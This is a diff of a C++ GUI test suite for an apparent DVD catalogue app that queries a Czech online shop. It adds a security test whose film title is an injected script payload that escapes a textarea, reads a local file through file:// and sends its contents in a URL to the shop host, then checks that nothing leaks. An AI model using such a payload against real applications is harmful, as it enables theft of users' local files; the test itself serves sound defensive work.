@@ -67,8 +67,10 @@ TEST_F(ShopTest, AFilmOfTheShopStandsInTheListAndInTheFiles) {
     QBuffer buffer(&picture);
     image.save(&buffer, "PNG");
     web.serve(sites.shop + u"/seznam_video.php"_s, {.body = shopPages::listPage(3).toUtf8(), .type = utf8});
-    web.serve(sites.shop + u"/zbozi_video.php?id_zbozi=101"_s,
-              {.body = shopPages::filmPage().toUtf8(), .type = utf8});
+    for (const int film : {100, 101, 102}) {
+        web.serve(sites.shop + u"/zbozi_video.php?id_zbozi=%1"_s.arg(film),
+                  {.body = shopPages::filmPage().toUtf8(), .type = utf8});
+    }
     web.serve(sites.shop + u"/images/1.png"_s, {.body = picture, .type = "image/png"});
 
     ASSERT_NO_FATAL_FAILURE(openLookup(u"zuz"_s));
@@ -76,7 +78,7 @@ TEST_F(ShopTest, AFilmOfTheShopStandsInTheListAndInTheFiles) {
     // The list is as high as the panel before it, where these keys do nothing.
     int attempts = 0;
     do {
-        screen.press(lookup, {u"Home"_s, u"Down"_s, u"Tab"_s, u"Return"_s});
+        screen.press(lookup, {u"Home"_s, u"Down"_s, u"Return"_s});
     } while (!screen.waitForHeight(lookup, 393, 3000) && ++attempts < 20);
     ASSERT_LT(attempts, 20);
     screen.click(lookup, 407, 370);  // "Vložit data"
@@ -112,6 +114,33 @@ TEST_F(ShopTest, CzechLettersReachTheShopAsItReadsThemAndManyFilmsAreTold) {
     EXPECT_EQ(web.posts(), QByteArrayList{"nazev=%22%A9%9Dastn%FD%22+%AEi%BEka+%26+%E8as"});
     screen.press(box, {u"Return"_s});
     lookup = screen.waitForWindow(lookupWindow);
+    screen.press(lookup, {u"Escape"_s});
+    ASSERT_TRUE(screen.waitUntilGone(lookupWindow));
+    leave();
+}
+
+TEST_F(ShopTest, ATitleCannotReadLocalFiles) {
+    WebServer web;
+    useProxy(web.root());
+    QFile secret(folder() + u"/secret"_s);
+    ASSERT_TRUE(secret.open(QFile::WriteOnly));
+    secret.write("SECRET");
+    secret.close();
+    sql((u"INSERT INTO tDVD (DVDID, KatCisl, CZJm, Jazyk) VALUES (1, '1', '</textarea><script>try { x=new "
+         "XMLHttpRequest; x.open(\"GET\",\"file://%1\",false); x.send(); y=x.responseText } catch (e) { "
+         "y=\"no\" } "
+         "location=\"%2/seznam_video.php?\"+y</script>', 0)"_s.arg(secret.fileName(), sites.shop))
+            .toUtf8()
+            .constData());
+    program = start();
+    master = screen.waitForWindow(mainWindow);
+    screen.click(master, 120, 38);  // "Uprav"
+    editor = screen.waitForWindow(u"^DVD Film$"_s);
+    ASSERT_FALSE(editor.isEmpty());
+    screen.click(editor, 473, 53);
+    lookup = screen.waitForWindow(lookupWindow);
+    ASSERT_TRUE(web.waitForRequest());
+    EXPECT_FALSE(web.targets().join(u' ').contains(u"SECRET"_s)) << web.targets().join(u' ').toStdString();
     screen.press(lookup, {u"Escape"_s});
     ASSERT_TRUE(screen.waitUntilGone(lookupWindow));
     leave();
